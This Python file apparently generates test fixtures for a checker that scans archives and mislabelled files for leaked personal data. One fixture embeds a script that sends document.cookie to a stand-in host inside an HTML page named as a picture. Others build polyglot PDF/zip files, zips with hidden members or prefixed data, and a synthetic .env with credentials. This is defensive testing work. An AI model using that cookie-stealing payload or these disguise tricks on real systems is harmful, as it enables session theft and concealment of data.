"""Archives, files that are not what they are called, and kinds nobody can check."""

from __future__ import annotations

import gzip
import io
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path

import papers
from cases import CUNNING, DRAFTS, EDITOR, INTERNAL, JOURNALIST, PLAIN, REQUESTERS, SYSTEMS, Making, clean, leak, zipped
from images import image_clean_photo, image_gps
from pdfs import pdf_clean_shaded_table, pdf_xmp_description
from sheets import excel_clean_sheets, excel_hidden_sheet, excel_very_hidden_sheet
from texts import mail_with_covered_letter
from words import word_clean_letter, word_comment, word_hidden_text, word_tracked_deletion


def _people(its: Making, count: int = 6) -> str:
    rows = (its.person() for _ in range(count))
    return "nama,nik,alamat\n" + "".join(f"{one.name},{its.keep(one.nik)},{one.address}\n" for one in rows)


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mtime = len(content), 1_709_605_800
            archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def _locked(members: dict[str, bytes], password: bytes) -> bytes:
    """A zip file under the old encryption, which is all that most programs ask for."""
    table = []
    for number in range(256):
        value = number
        for _ in range(8):
            value = value >> 1 ^ (0xEDB88320 if value & 1 else 0)
        table.append(value)

    def stream(data: bytes) -> bytes:
        keys = [0x12345678, 0x23456789, 0x34567890]

        def turn(byte: int) -> None:
            keys[0] = keys[0] >> 8 ^ table[(keys[0] ^ byte) & 255]
            keys[1] = ((keys[1] + (keys[0] & 255)) * 134_775_813 + 1) & 0xFFFFFFFF
            keys[2] = keys[2] >> 8 ^ table[(keys[2] ^ keys[1] >> 24) & 255]

        for byte in password:
            turn(byte)
        out = bytearray()
        for byte in data:
            mask = (keys[2] & 0xFFFF) | 2
            out.append(byte ^ (mask * (mask ^ 1) >> 8) & 255)
            turn(byte)
        return bytes(out)

    body, directory = b"", b""
    for name, content in members.items():
        crc = zlib.crc32(content)
        data = stream(b"laman-corpus"[:11] + bytes([crc >> 24]) + content)
        common = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0x4BC0, 0x5865, crc, len(data), len(content), len(name), 0)
        directory += b"PK\x01\x02\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name.encode()
        body += b"PK\x03\x04" + common + name.encode() + data
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


# ------------------------------------------------------------------ archives: plain leaks
@leak("archive", PLAIN, "member", ".zip", asset=REQUESTERS)
def zip_hidden_sheet(its: Making) -> bytes:
    """One of the workbooks in the zip file has a hidden sheet."""
    return zipped({"laporan/surat.docx": word_clean_letter(its), "laporan/data.xlsx": excel_hidden_sheet(its)})


@leak("archive", PLAIN, "member", ".zip")
def zip_table_of_people(its: Making) -> bytes:
    """A table of people between photos."""
    return zipped({"foto1.jpg": image_clean_photo(its), "penerima.csv": _people(its)})


@leak("archive", PLAIN, "member", ".zip", asset=INTERNAL)
def zip_in_zip_in_zip(its: Making) -> bytes:
    """A letter with a comment, three archives deep."""
    inner = zipped({"surat.docx": word_comment(its)})
    return zipped({"2024.zip": zipped({"maret.zip": inner}), "baca.txt": its.prose(1)[0]})


@leak("archive", PLAIN, "encrypted", ".zip")
def zip_password(its: Making) -> bytes:
    """A zip file with a password: nobody can check it."""
    its.password = "kantor123"  # noqa: S105
    return _locked({"penerima.csv": _people(its).encode()}, its.password.encode())


@leak("archive", PLAIN, "member", ".tar.gz")
def tar_with_photos(its: Making) -> bytes:
    """Photos with their places in a tar file."""
    return gzip.compress(_tar({"foto/1.jpg": image_clean_photo(its), "foto/2.jpg": image_gps(its)}), mtime=0)


@leak("archive", PLAIN, "member", ".csv.gz")
def gzip_table_of_people(its: Making) -> bytes:
    """A compressed table of people."""
    return gzip.compress(_people(its).encode(), mtime=0)


# ------------------------------------------------------------------ archives: cunning leaks
@leak("archive", CUNNING, "container", ".zip", asset=REQUESTERS)
def zip_comment(its: Making) -> bytes:
    """The comment of the zip file itself tells whose case it is."""
    return zipped({"surat.docx": word_clean_letter(its)}, comment=its.whisper().encode())


@leak("archive", CUNNING, "container", ".zip", adversary=JOURNALIST)
def zip_deleted_member(its: Making) -> bytes:
    """A member was taken out of the directory, its bytes are still between the others."""
    content = zipped(
        {"a.txt": its.prose(1)[0], "penerima.csv": _people(its), "b.txt": its.prose(1)[0]}, stored=("penerima.csv",)
    )
    first = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", first + 4)
    third = content.index(b"PK\x01\x02", second + 4)
    end = content.rindex(b"PK\x05\x06")
    left = content[first:second] + content[third:end]
    return content[:first] + left + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 2, 2, len(left), first, 0)


@leak("archive", CUNNING, "member-name", ".zip")
def zip_names(its: Making) -> bytes:
    """The files are harmless, but each is named after a person and a NIK."""
    names = [f"KTP_{one.name.replace(' ', '_')}_{its.keep(one.nik)}.jpg" for one in (its.person() for _ in range(3))]
    return zipped({name: image_clean_photo(its) for name in names})


@leak("archive", CUNNING, "member", ".zip", asset=REQUESTERS)
def zip_mail_letter(its: Making) -> bytes:
    """A zip file with a mail with a PDF with a covered name."""
    return zipped({
        "surat/undangan.eml": mail_with_covered_letter(its),
        "surat/lampiran.pdf": pdf_clean_shaded_table(its),
    })


@leak("archive", CUNNING, "member", ".zip", asset=REQUESTERS)
def zip_many_clean_one_not(its: Making) -> bytes:
    """Thirty clean files and one in which a property tells the case."""
    members: dict[str, bytes | str] = {f"dok/{number:02}.txt": its.prose(1)[0] for number in range(24)}
    members |= {
        "dok/24.xlsx": excel_clean_sheets(its),
        "dok/25.docx": word_clean_letter(its),
        "dok/26.pdf": pdf_xmp_description(its),
    }
    return zipped(members)


@leak("archive", CUNNING, "prefix", ".zip")
def zip_behind_a_text(its: Making) -> bytes:
    """Before the archive begins there is a table of people, which zip programs skip."""
    head = _people(its).encode()
    buffer = io.BytesIO(head)
    buffer.seek(0, io.SEEK_END)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(zipfile.ZipInfo("surat.txt", (2024, 3, 5, 9, 30, 0)), its.prose(1)[0])
    return buffer.getvalue()


# ------------------------------------------------------------------ archives: clean look-alikes
@clean("archive", "member", ".zip")
def zip_clean_documents(its: Making) -> bytes:
    """A letter, a workbook, a PDF, a photo, in folders."""
    return zipped({
        "surat/1.docx": word_clean_letter(its),
        "data/2.xlsx": excel_clean_sheets(its),
        "lampiran/3.pdf": pdf_clean_shaded_table(its),
        "foto/4.jpg": image_clean_photo(its),
    })


@clean("archive", "member", ".zip")
def zip_clean_nested(its: Making) -> bytes:
    """An archive of archives by month."""
    return zipped({f"2024-{month:02}.zip": zipped({"laporan.txt": "\n".join(its.prose(2))}) for month in range(1, 7)})


@clean("archive", "member", ".tar.gz")
def tar_clean(its: Making) -> bytes:
    """Open data in a tar file."""
    return gzip.compress(
        _tar({"data/realisasi.csv": b"uraian;pagu\nBelanja;12000000\n", "data/baca.txt": its.prose(1)[0].encode()}),
        mtime=0,
    )


@clean("archive", "member", ".csv.gz")
def gzip_clean(its: Making) -> bytes:
    """A compressed table of figures."""
    return gzip.compress(
        (
            "tahun,kecamatan,jumlah\n" + "".join(f"2024,{number},{its.rng.randint(10, 999)}\n" for number in range(200))
        ).encode(),
        mtime=0,
    )


@clean("archive", "container", ".zip")
def zip_clean_comment(its: Making) -> bytes:
    """A zip file whose comment is that of the program, with an empty file and folders."""
    return zipped(
        {"dokumen/": b"", "dokumen/surat.txt": its.prose(1)[0], "dokumen/kosong.txt": b""},
        comment=b"Dibuat dengan 7-Zip",
    )


# ------------------------------------------------------------------ names that lie
@leak("lying", PLAIN, "wrong-suffix", ".pdf", asset=REQUESTERS)
def lying_word_as_pdf(its: Making) -> bytes:
    """A Word file with tracked deletions that was only renamed to .pdf."""
    return word_tracked_deletion(its)


@leak("lying", PLAIN, "wrong-suffix", ".csv", asset=REQUESTERS)
def lying_workbook_as_csv(its: Making) -> bytes:
    """A workbook with a hidden sheet that was only renamed to .csv."""
    return excel_hidden_sheet(its)


@leak("lying", CUNNING, "wrong-suffix", ".jpg", asset=REQUESTERS)
def lying_archive_as_photo(its: Making) -> bytes:
    """A zip file named like a photo."""
    return zipped({"data.xlsx": excel_very_hidden_sheet(its)})


@leak("lying", CUNNING, "wrong-suffix", ".txt", asset=INTERNAL)
def lying_word_as_text(its: Making) -> bytes:
    """A Word file with hidden text, named like a text."""
    return word_hidden_text(its)


@leak("lying", CUNNING, "wrong-suffix", ".png", asset=SYSTEMS, adversary=EDITOR)
def lying_page_as_picture(its: Making) -> bytes:
    """A web page with a script, named like a picture."""
    code = its.keep('location="http://pengumpul.example/"+document.cookie')
    return f"<!doctype html><html><body><script>{code}</script></body></html>".encode()


@leak("lying", CUNNING, "two-kinds", ".pdf", asset=REQUESTERS, adversary=EDITOR)
def lying_pdf_and_zip(its: Making) -> bytes:
    """A PDF and a zip file at once: one program shows a letter, the other unpacks a workbook."""
    return papers.letter(its, 2) + zipped({"data.xlsx": excel_hidden_sheet(its)})


@clean("lying", "wrong-suffix", ".PDF")
def lying_clean_capitals(its: Making) -> bytes:
    """A PDF whose suffix is in capitals."""
    return papers.letter(its)


@clean("lying", "wrong-suffix", ".jpeg")
def lying_clean_jpeg(its: Making) -> bytes:
    """A JPEG with the longer suffix."""
    return image_clean_photo(its)


@clean("lying", "wrong-suffix", ".csv")
def lying_clean_semicolons(its: Making) -> bytes:
    """A table with semicolons, as Excel writes it here."""
    return (
        "No;Uraian;Pagu\r\n"
        + "".join(f"{number};Subkegiatan {number};{its.rng.randint(10**7, 10**9)}\r\n" for number in range(1, 9))
    ).encode("utf-8-sig")


@clean("lying", "wrong-suffix", ".txt")
def lying_clean_markup_in_text(its: Making) -> bytes:
    """A text that explains HTML, %PDF and PK, and is a text."""
    return f"Petunjuk teknis\n\nBerkas PDF diawali %PDF-1.7, arsip diawali PK. Tag <b>tebal</b> ditulis dengan kurung siku.\n\n{its.prose(1)[0]}\n".encode()


# ------------------------------------------------------------------ kinds nobody can check
@leak("unknown", PLAIN, "unknown-kind", ".sqlite")
def unknown_database(its: Making) -> bytes:
    """A database of requesters."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "data.sqlite"
        base = sqlite3.connect(path)
        base.execute("CREATE TABLE pemohon (nama TEXT, nik TEXT)")
        base.executemany(
            "INSERT INTO pemohon VALUES (?, ?)",
            [(one.name, its.keep(one.nik)) for one in (its.person() for _ in range(4))],
        )
        base.commit()
        base.close()
        return path.read_bytes()


@leak("unknown", PLAIN, "unknown-kind", ".xls", asset=DRAFTS)
def unknown_old_workbook(its: Making) -> bytes:
    """A workbook of the format before 2007."""
    from parts import compound  # noqa: PLC0415 - beside its use

    return compound({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0" + bytes(800) + its.whisper().encode("cp1252")})


@leak("unknown", PLAIN, "unknown-kind", ".bak", asset=INTERNAL)
def unknown_backup(its: Making) -> bytes:
    """A backup of no known format."""
    return b"SIMPEGBK\x02\x01" + its.rng.randbytes(600) + its.whisper().encode() + its.rng.randbytes(600)


@leak("unknown", CUNNING, "unknown-kind", ".7z")
def unknown_seven_zip(its: Making) -> bytes:
    """An archive that cannot be opened here, so what is in it is not known."""
    its.keep("bytes:unknown")
    return b"7z\xbc\xaf\x27\x1c\0\x04" + its.rng.randbytes(1500)


@leak("unknown", CUNNING, "credentials", ".env", asset=SYSTEMS)
def unknown_environment(its: Making) -> bytes:
    """The settings file of the office's application, with its keys."""
    secret = its.keep(f"S1mpeg{its.number(6)}")
    return f"APP_ENV=production\nDB_HOST=10.12.4.9\nDB_USERNAME=simpeg\nDB_PASSWORD={secret}\nAPP_KEY=base64:{its.rng.randbytes(24).hex()}\n".encode()
